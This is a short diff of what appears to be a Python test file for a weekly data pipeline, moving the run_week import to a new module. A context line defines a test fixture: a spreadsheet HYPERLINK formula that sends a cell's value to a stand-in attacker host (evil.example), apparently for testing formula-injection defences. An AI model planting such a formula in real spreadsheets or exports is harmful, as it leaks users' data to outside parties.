@@ -16,10 +16,10 @@ from sqlalchemy import select
 from factories import add_innovation, add_opd
 from nyengget.config import get_settings
 from nyengget.notify.delivery import FileDelivery
+from nyengget.pipeline.weekly import run_week
 from nyengget.sources.ingest import ingest_source
 from nyengget.warehouse.schema import programmes, quarantine
 from nyengget.weekly.build import load_week
-from nyengget.weekly.run import run_week
 
 WEEK = date(2026, 11, 23)
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Hibah Sanitasi Air Limbah Kota")'
